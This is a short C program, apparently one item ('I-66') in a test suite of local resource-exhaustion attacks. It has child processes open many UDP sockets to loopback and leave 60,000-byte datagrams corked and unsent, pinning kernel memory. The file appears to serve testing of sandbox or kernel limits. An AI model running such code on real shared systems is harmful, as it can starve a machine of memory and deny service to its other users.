// I-66: argv[1] processes with argv[2] UDP sockets each, of which each has begun a datagram of 60,000 bytes and does not send it.
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static bool make(long n) {
        static char bytes[60000];

        for (long i = 0; i < n; i++) {
                struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = {htonl(INADDR_LOOPBACK)}};
                int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

                if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 || send(fd, bytes, sizeof(bytes), MSG_MORE) < 0)
                        return false;
        }
        return true;
}

int main(int argc, char **argv) {
        held_by_children(argc, argv, make, "datagrams that are not sent");
}
